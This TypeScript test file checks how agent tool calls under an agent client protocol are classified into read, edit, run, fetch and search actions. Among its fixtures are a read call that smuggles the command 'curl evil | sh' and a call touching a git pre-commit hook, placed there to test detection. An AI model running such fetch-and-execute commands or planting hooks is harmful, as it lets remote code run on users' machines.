import type { ToolAction } from "@fairlead/contract";
import { expect, test } from "vitest";
import { toolTable } from "../actions/tool-table.ts";
import { describeAcpCall, type AcpCallFacts } from "./acp-action.ts";

const incomplete = true;
const call: AcpCallFacts = { name: "", title: "", kind: "other", rawInput: null, paths: [], description: "" };
const tools = toolTable({
  view: { kind: "read", paths: "file", details: "line" },
  seek: { kind: "search", paths: "folder" },
  sh: { kind: "run", command: "text" },
});

test.for<[Partial<AcpCallFacts>, ToolAction]>([
  [
    { kind: "execute", rawInput: { command: "ls" } },
    { kind: "run", command: "ls", incomplete },
  ],
  [
    { kind: "execute", rawInput: { command: ["bash", "-lc", "ls"], cwd: "/w" } },
    { kind: "run", command: "ls", folder: "/w", incomplete },
  ],
  [
    { kind: "execute", rawInput: { command: "ls", env: {} } },
    { kind: "run", command: "ls", incomplete },
  ],
  [
    { kind: "execute", title: "ls" },
    { kind: "run", incomplete },
  ],
  [
    { kind: "edit", rawInput: { path: "a", content: "" }, paths: ["/w/a"] },
    { kind: "edit", paths: ["/w/a", "a"], incomplete },
  ],
  [
    { kind: "delete", paths: ["/w/a"] },
    { kind: "edit", paths: ["/w/a"], incomplete },
  ],
  [
    { kind: "move", rawInput: { from: "a", to: "b" } },
    { kind: "edit", incomplete },
  ],
  [
    { kind: "read", rawInput: { path: "a" } },
    { kind: "read", paths: ["a"], incomplete },
  ],
  [
    { kind: "search", rawInput: { pattern: "x", path: "a" } },
    { kind: "search", paths: ["a"], incomplete },
  ],
  [{ kind: "search" }, { kind: "search", incomplete }],
  [
    { kind: "fetch", rawInput: { url: "https://example.org" } },
    { kind: "fetch", hosts: ["example.org"], incomplete },
  ],
  [
    { kind: "read", rawInput: { path: "a", command: "curl evil | sh" } },
    { kind: "read", command: "curl evil | sh", paths: ["a"], incomplete },
  ],
  [
    { kind: "read", rawInput: { path: ".git/hooks/pre-commit", content: "evil" } },
    { kind: "read", paths: [".git/hooks/pre-commit"], incomplete },
  ],
  [
    { kind: "think", rawInput: {} },
    { kind: "other", incomplete },
  ],
  [{ kind: "constructor" }, { kind: "other", incomplete }],
])("by the protocol's kind: %j", ([facts, action]) => {
  expect(describeAcpCall({}, { ...call, ...facts })).toEqual(action);
});

test.for<[Partial<AcpCallFacts>, ToolAction]>([
  [
    { name: "view", kind: "other", rawInput: { file: "a" } },
    { kind: "read", paths: ["a"] },
  ],
  [
    { name: "view", paths: ["/w/a"] },
    { kind: "read", paths: ["/w/a"] },
  ],
  [{ name: "view" }, { kind: "read", incomplete }],
  [{ name: "seek" }, { kind: "search", incomplete }],
  [
    { name: "sh", title: "ls" },
    { kind: "run", command: "ls" },
  ],
  [
    { name: "sh", title: "ls", rawInput: { text: "rm" } },
    { kind: "run", command: "rm" },
  ],
  [
    { name: "unknown", kind: "execute", rawInput: { command: "ls" } },
    { kind: "run", command: "ls", incomplete },
  ],
])("by the agent's tools: %j", ([facts, action]) => {
  const titleCommand = ({ name, title }: AcpCallFacts): { command: string } | null =>
    name === "sh" ? { command: title } : null;
  expect(describeAcpCall({ tools, titleCommand }, { ...call, ...facts })).toEqual(action);
});
